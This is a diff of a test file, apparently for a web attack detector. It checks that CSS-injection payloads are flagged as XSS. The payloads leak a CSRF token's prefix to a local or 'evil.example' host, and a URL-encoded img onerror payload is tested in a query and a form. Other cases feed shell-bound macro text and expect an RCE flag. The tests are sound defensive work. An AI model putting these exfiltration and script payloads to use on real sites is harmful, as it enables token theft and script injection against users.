@@ -3804,3 +3804,13 @@ t.test('forty-second round: a style sheet reading an input\'s value out through 
   for (const v of ['<style>input[name=csrf][value^=s3]{background:url(http://127.0.0.1:8999/leak?prefix=s3)}</style>', '<style>input[value$="a"] { background-image: url(\'//evil.example/a\') }</style>', "<style>@import url('https://fonts.googleapis.com/css?family=Source+Code+Pro');\ninput[name=csrf][value^=s3]{background:url(http://127.0.0.1:8999/leak?prefix=s3)}</style>"]) t.ok(q(v).includes('xss'), v)
   for (const v of ['<style>input[value^=a]{background:url(/local.png)}</style>', '<style>.x{background:url(https://cdn.example/x.png)}</style>', '<style>input[value=""]{color:gray}</style>']) t.same(q(v), [], v)
 })
+
+t.test("the forty-second round's readings are bounded: thousands of a macro's repetitions, SVG comments, tags after entities", async (t) => {
+  // (read-through) a Rust macro's declarations and the shell's bindings are read once a value, not once a repetition
+  t.same(json({ v: `macro_rules! m {\n${'$($a:tt)* '.repeat(1600)}\n}` }), [], 'declared, unbound: renamed')
+  t.ok(json({ v: `macro_rules! m {\n($($a:tt)*) => {\na=id\n${'$($a)* '.repeat(1600)}\n};\n}` }).includes('rce'), 'bound by the shell: read, however many')
+  // a query's value as the application has it: its `+` a blank, then percent-decoded, only where the text as sent is read
+  const sent = 'q=%3Cimg+src%3Dx+%26gt%3B+onerror%3Dself.alert(name)%3E'
+  t.ok(detector.detect({ ...base, query: sent }).includes('xss'), '`+` and escapes in a query')
+  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(sent) }).includes('xss'), 'in a form')
+})
